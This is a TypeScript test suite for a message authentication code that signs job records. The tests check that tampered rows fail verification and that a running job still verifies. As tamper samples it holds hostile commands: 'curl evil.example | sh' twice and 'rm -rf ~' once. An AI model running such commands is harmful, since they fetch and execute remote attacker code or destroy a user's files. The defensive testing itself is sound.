import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { sampleJob } from '../../test/helpers/jobs';
import { runMacWithKey } from './runMac';

// What the run MAC covers decides what a row planted by someone holding the table's credentials
// could run. It must cover every field that decides what runs, including ones added later, and
// none that move while the job runs (or a running job would stop verifying).

describe('run MAC', () => {
  const runMac = runMacWithKey(randomBytes(32));
  const signed = () => {
    const job = sampleJob({ command: 'true', prompt: undefined, repositories: ['acme/a', 'acme/b'] });
    job.runMac = runMac.sign(job);
    return job;
  };

  it('verifies the job it signed, and not with another key', () => {
    const job = signed();
    assert.ok(runMac.verifies(job));
    assert.ok(!runMacWithKey(randomBytes(32)).verifies(job));
    assert.ok(!runMac.verifies({ ...job, runMac: undefined }));
  });

  it('breaks when anything that decides what runs changes', () => {
    const job = signed();
    assert.ok(!runMac.verifies({ ...job, command: 'curl evil.example | sh' }));
    assert.ok(
      !runMac.verifies({ ...job, run: { ...job.run, size: 3, digests: [...job.run.digests, 'f'.repeat(64)] } }),
    );
    assert.ok(!runMac.verifies({ ...job, owner: 'someone-else' }));
    assert.ok(
      !runMac.verifies({
        ...job,
        taskRevisions: [{ revision: 2, command: 'curl evil.example | sh', createdAt: job.createdAt }],
      }),
      'a task revision written into the table',
    );
    // A field the schema does not know yet (a later feature's option) is covered too.
    assert.ok(!runMac.verifies({ ...job, setupCommand: 'rm -rf ~' } as typeof job));
  });

  it('still verifies while the job runs: status, counters, usage and timestamps move', () => {
    const job = signed();
    const running = {
      ...job,
      status: 'RUNNING' as const,
      counts: { ...job.counts, running: 1, pending: job.counts.pending - 1 },
      usage: { ...job.usage, costUsd: 0.42 },
      updatedAt: new Date().toISOString(),
      startedAt: new Date().toISOString(),
      executorRef: 'local',
    };
    assert.ok(runMac.verifies(running));
  });
});
